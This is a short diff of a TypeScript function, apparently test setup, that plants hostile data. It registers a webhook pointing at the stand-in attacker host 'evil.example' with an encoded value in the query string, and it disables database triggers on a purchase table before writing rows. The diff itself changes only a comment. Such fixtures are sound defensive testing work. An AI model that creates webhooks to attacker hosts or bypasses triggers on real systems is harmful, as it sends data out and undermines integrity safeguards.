@@ -99,7 +99,7 @@ async function plant({ run, gateway }: Console): Promise<void> {
     url: `https://evil.example/?x=${encodeURIComponent(evil)}`,
   };
   await run('webhook.create', { ...endpoint, description: evil });
-  // What providers, banks and the past may have left in the rows, whoever let it in.
+  // Hostile texts that providers, banks and earlier versions may have left in the rows.
   const { database } = gateway;
   await database.query('alter table purchase_outcomes disable trigger user');
   await database.query(
